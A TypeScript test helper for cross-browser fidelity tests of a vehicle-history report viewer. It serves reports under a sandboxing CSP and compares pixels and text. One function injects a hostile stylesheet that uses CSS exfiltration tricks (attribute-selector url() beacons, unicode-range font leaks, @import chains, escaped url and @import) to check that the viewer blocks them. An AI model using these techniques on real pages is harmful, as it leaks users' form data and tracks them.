// What the report viewer shows against what the report is: the same HTML in a plain tab of the same
// browser, the same size, with scripts off and every remote load blocked (so the comparison measures
// the viewer's walls, not the network), served from 127.0.0.2, a loopback address the test build's
// content script does not run on. Shared by report-fidelity.test.ts (Chromium) and
// firefox-report-fidelity.test.ts.
import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import pixelmatch from 'pixelmatch';
import { PNG } from 'pngjs';
import { imagePlaceholder } from '@/lib/reports/image-placeholder';
import { isTrackingImage } from '@/lib/reports/report-document';
import { renderReportHtml } from '@/simulator/report-html';

/** How the plain tab is served: scripts off (CSP sandbox without allow-scripts), nothing remote. */
export const PLAIN_CSP =
  "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; form-action 'none'";

/**
 * The plain tab with the report's own resources reachable (issue 38's baseline): stylesheets, fonts
 * and images from these origins load, scripts still do not run, nothing else loads.
 */
export const plainCspWith = (origins: string[]) => {
  const from = origins.join(' ');
  return `sandbox; default-src 'none'; img-src data: ${from}; style-src 'unsafe-inline' ${from}; font-src data: ${from}; form-action 'none'`;
};

export interface ReportCase {
  name: string;
  provider: 'providerA' | 'providerB';
  vin: string;
  html: string;
}

const fixture = (file: string) =>
  readFileSync(new URL(`../../fixtures/reports/${file}`, import.meta.url), 'utf8');

/**
 * A hostile stylesheet added to a report's head (issue 34): attribute selectors with url(), a font
 * per letter through unicode-range, an @import chain, image-set, escapes spelling url( and @import.
 * Aimed at the simulator's beacon; with nothing loaded, it changes nothing a user sees.
 */
export function withHostileStylesheet(html: string, beacon: string): string {
  const css = `
input[value^="a"],p[class^="a"]{background:url("${beacon}?by=attr")}
@font-face{font-family:leak;src:url(${beacon}?by=range-a);unicode-range:U+0041}
@font-face{font-family:leak;src:u\\72l("${beacon}?by=range-b") format("woff");unicode-range:U+0042}
h1{font-family:leak,inherit}
@import url("data:text/css,@import url(%22${beacon}?by=chain%22);");
@\\69mport "${beacon}?by=escaped-import";
body::after{content:"";background-image:image-set("${beacon}?by=image-set" 1x)}
div[class*="x"]{border-image:\\75\\72\\6c(${beacon}?by=hex) 30}
.icon-x:before{content:"\\e900"}`;
  return html.replace(
    '</head>',
    `<link rel="stylesheet" href="${beacon}?by=link"><style>${css}</style></head>`,
  );
}

/** The simulator's two providers and four report shapes modelled on both real providers' markup. */
export function reportCases(origin: string): ReportCase[] {
  const simulated = (provider: 'providerA' | 'providerB', vin: string, ymm: string, records: number) =>
    renderReportHtml({
      provider,
      id: '90',
      vin,
      yearMakeModel: ymm,
      records,
      createdAt: '2026-11-01T10:00:00.000Z',
      origin,
    });
  return [
    {
      name: 'simulator providerA',
      provider: 'providerA',
      vin: '1G1PG5SC3C7167133',
      html: simulated('providerA', '1G1PG5SC3C7167133', '2012 Chevrolet Cruze LT', 14),
    },
    {
      name: 'simulator providerB',
      provider: 'providerB',
      vin: '1G1PG5SC3C7167133',
      html: simulated('providerB', '1G1PG5SC3C7167133', '2012 Chevrolet Cruze LT', 11),
    },
    {
      name: 'inline SVG icons, colspan value table',
      provider: 'providerA',
      vin: '5N3ZA0NE1AN908084',
      html: fixture('icons-overview.html'),
    },
    {
      name: 'SVG sprite <use>, owner rows with colspan',
      provider: 'providerA',
      vin: '1FMCU14T3JU402061',
      html: fixture('sprite-history.html'),
    },
    {
      name: 'div-tables and an SVG score scale',
      provider: 'providerB',
      vin: '1G8ZF52801Z322733',
      html: fixture('div-tables.html'),
    },
    {
      name: 'Bootstrap cards, striped table, escaped icon glyphs',
      provider: 'providerB',
      vin: '1N6SD16S6NC347945',
      html: fixture('bootstrap-cards.html'),
    },
  ];
}

/**
 * A simulator report whose look lives on the simulator's CDN and font host (issue 38), `extra` added
 * at the end of its body. providerB's VIN is not in the simulator's seed: its header reads "Unknown
 * vehicle", which no comparison depends on.
 */
export function cdnReport(
  server: { origin: string; cdn: { cdnOrigin: string } },
  provider: 'providerA' | 'providerB',
  extra = '',
): { vin: string; html: string } {
  const vin = provider === 'providerA' ? '1G1PG5SC3C7167133' : '2HGFA16578H506722';
  const html = renderReportHtml({
    provider,
    id: '90',
    vin,
    yearMakeModel: provider === 'providerA' ? '2012 Chevrolet Cruze LT' : '2008 Honda Civic LX',
    records: 12,
    createdAt: '2026-11-01T10:00:00.000Z',
    origin: server.origin,
    cdnOrigin: server.cdn.cdnOrigin,
  });
  return { vin, html: extra ? html.replace('</body>', `${extra}</body>`) : html };
}

/**
 * A document drawn: its fonts loaded and every image decoded (the viewer's image boxes are data:
 * SVGs, decoded after the frame's load; under a full run's load one was still blank at the shot).
 * An expression, for Playwright and puppeteer alike.
 */
export const DRAWN =
  'Promise.all([document.fonts.ready, ...[...document.images].map((img) => img.decode().catch(() => undefined))]).then(() => undefined)';

/** An attribute's value in one tag's markup (the reports' own simple quoting), or null. */
const attributeOf = (tag: string, name: string) =>
  new RegExp(`\\s${name}\\s*=\\s*(?:"([^"]*)"|'([^']*)'|([^\\s>]+))`, 'i')
    .exec(tag)
    ?.slice(1)
    .find((v) => v !== undefined) ?? null;

/**
 * The report with each image that cannot load here (`loads` says which can) standing in by the box
 * the viewer draws for it (lib/reports/image-placeholder.ts, issue 65): what the provider laid out, a
 * box of the image's size, is what both sides then show, and the comparison measures the rest. A
 * browser's own broken image is no baseline: Chromium and Firefox drop an image's size when it
 * fails with alt text and lay the alt out as a line of text. Tracking pixels stay as they are.
 */
export function withImagesStoodIn(html: string, loads: (url: string) => boolean): string {
  return html.replace(/<img\b[^>]*>/gi, (tag) => {
    // The tag's attributes as the viewer's own tracking-pixel rule reads them.
    const img = {
      getAttribute: (name: string) => attributeOf(tag, name),
      hasAttribute: (name: string) => new RegExp(`\\s${name}[\\s>=/]`, 'i').test(tag),
    };
    const src = img.getAttribute('src');
    if (src === null || /^\s*data:/i.test(src) || loads(src) || isTrackingImage(img)) return tag;
    const standIn = imagePlaceholder(img.getAttribute('width'), img.getAttribute('height'));
    return tag.replace(/\ssrc\s*=\s*(?:"[^"]*"|'[^']*'|[^\s>]+)/i, ` src="${standIn}"`);
  });
}

/**
 * Serves each report as a plain page at /plain/<n> on 127.0.0.2 with PLAIN_CSP, or with the
 * `reachable` origins' resources allowed (plainCspWith); its images that cannot load there stand in
 * by the viewer's boxes (withImagesStoodIn).
 */
export async function startPlainServer(reachable: string[] = []): Promise<{
  origin: string;
  put(html: string): string;
  close(): Promise<void>;
}> {
  const csp = reachable.length ? plainCspWith(reachable) : PLAIN_CSP;
  const loads = (url: string) => reachable.some((origin) => url.startsWith(`${origin}/`));
  const pages: string[] = [];
  const server: Server = createServer((request, response) => {
    const page = pages[Number(/^\/plain\/(\d+)$/.exec(request.url ?? '')?.[1] ?? -1)];
    if (page === undefined) return void response.writeHead(404).end();
    response.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'content-security-policy': csp,
    });
    response.end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  const origin = `http://127.0.0.2:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    put(html) {
      pages.push(withImagesStoodIn(html, loads));
      return `${origin}/plain/${pages.length - 1}`;
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** Share of pixels that differ between two screenshots of one size (anti-aliasing aside). */
export function pixelDifference(a: Buffer, b: Buffer): number {
  const one = PNG.sync.read(a);
  const two = PNG.sync.read(b);
  if (one.width !== two.width || one.height !== two.height)
    throw new Error(`sizes differ: ${one.width}x${one.height} and ${two.width}x${two.height}`);
  const differing = pixelmatch(one.data, two.data, undefined, one.width, one.height, { threshold: 0.1 });
  return differing / (one.width * one.height);
}

/** Share of the plain page's words that the viewer shows too (each word counted as often as it occurs). */
export function textKept(plain: string, viewer: string): number {
  const words = (text: string) => text.split(/\s+/).filter(Boolean);
  const shown = new Map<string, number>();
  for (const word of words(viewer)) shown.set(word, (shown.get(word) ?? 0) + 1);
  const wanted = words(plain);
  let kept = 0;
  for (const word of wanted) {
    const left = shown.get(word) ?? 0;
    if (left > 0) {
      kept++;
      shown.set(word, left - 1);
    }
  }
  return wanted.length === 0 ? 1 : kept / wanted.length;
}

/** What each side's document says of itself (as JSON, which every driver passes back alike): its
 * text, and how far it is wider than its window. */
export const DOCUMENT_FACTS = `JSON.stringify({
  text: document.body.innerText,
  overflow: Math.max(0, document.documentElement.scrollWidth - document.documentElement.clientWidth),
})`;
export interface DocumentFacts {
  text: string;
  overflow: number;
}
export const readFacts = (json: unknown): DocumentFacts | undefined =>
  typeof json === 'string' && json ? (JSON.parse(json) as DocumentFacts) : undefined;

export interface Fidelity {
  name: string;
  hostile: boolean;
  differs: number;
  kept: number;
  overflow: { viewer: number; plain: number };
}

/** The targets: at most 2% of pixels differ, at least 99% of the text kept, no new overflow. */
export function meetsTargets(f: Fidelity): boolean {
  return f.differs <= 0.02 && f.kept >= 0.99 && f.overflow.viewer <= f.overflow.plain;
}

export const describeFidelity = (f: Fidelity) =>
  `${f.name}${f.hostile ? ' + hostile stylesheet' : ''}: ${(f.differs * 100).toFixed(2)}% of pixels differ, ${(f.kept * 100).toFixed(1)}% of text kept, overflow ${f.overflow.viewer} px (plain ${f.overflow.plain} px)`;
